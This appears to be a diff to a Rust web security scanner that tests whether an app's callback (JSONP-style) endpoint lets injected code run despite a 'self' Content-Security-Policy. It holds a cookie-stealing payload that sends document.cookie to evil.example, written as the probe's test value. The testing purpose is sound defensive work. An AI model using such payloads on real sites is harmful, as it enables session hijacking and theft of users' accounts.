@@ -1,5 +1,6 @@
 //! Values that the app writes into its pages. These need no script: no Content-Security-Policy keeps them from working.
 
+use super::files::{is_script, loaded};
 use crate::app::fill;
 use crate::browser::{From, How};
 use crate::context::{Context, described};
@@ -105,30 +106,35 @@ pub(super) fn search_for_code(context: &mut Context<'_>) -> Result<Twin, Failed>
     Ok(Twin::of(answer.contains(&mark), &answer, "a search for a line of code"))
 }
 
-/// Data in the shape of a call of `name`.
-fn called(context: &mut Context<'_>, name: &str) -> Result<(bool, Response), Failed> {
+/// Data in the shape of a call of `name`: where it is, whether it begins so, and the answer.
+fn called(context: &mut Context<'_>, name: &str) -> Result<(String, bool, Response), Failed> {
     let path = fill(&described(&context.app.callback, "callback")?.path, "text", name);
     let script = context.fetch(&path, &Jar::default())?;
-    let is_script = script.header("content-type").is_some_and(|kind| kind.contains("javascript"));
-    Ok((is_script && script.text().trim_start_matches("/**/").starts_with(name), script))
+    let begins = is_script(&script) && script.text().trim_start_matches("/**/").starts_with(name);
+    Ok((path, begins, script))
 }
 
-/// Code of the attacker's in a script of the app's own, which every Content-Security-Policy with `'self'` lets run.
+/// Code of the attacker's in a script of the app's own, and a tag that loads it: `script-src 'self'` has no objection.
 pub(super) fn callback(context: &mut Context<'_>) -> Result<Verdict, Failed> {
+    let jar = context.victim_session()?;
     let code = format!("fetch('https://evil.example/{}?'+document.cookie)//", encode::mark());
-    let (worked, script) = called(context, &code)?;
-    Ok(if worked {
-        Verdict::succeeded(format!("a script of the app's own begins with {code}"))
+    let (path, begins, script) = called(context, &code)?;
+    if !begins {
+        return Ok(Verdict::refused(&script, "the code is in no script of the app"));
+    }
+    let (runs, page) = loaded(context, &path, &jar)?;
+    Ok(if runs {
+        Verdict::succeeded(format!("the page loads a script of the app's own that begins with {code}"))
     } else {
-        Verdict::refused(&script, "the code is in no script of the app")
+        Verdict::refused(&page, "the script does not run in the page")
     })
 }
 
 /// A page asks for data by the names that libraries make up.
 pub(super) fn own_callback(context: &mut Context<'_>) -> Result<Twin, Failed> {
     for name in ["showComments", "jQuery36105_1763800000.done", "window.widgets[0].show"] {
-        let (worked, script) = called(context, name)?;
-        if !worked {
+        let (_, begins, script) = called(context, name)?;
+        if !begins {
             return Ok(Twin::of(false, &script, name));
         }
     }
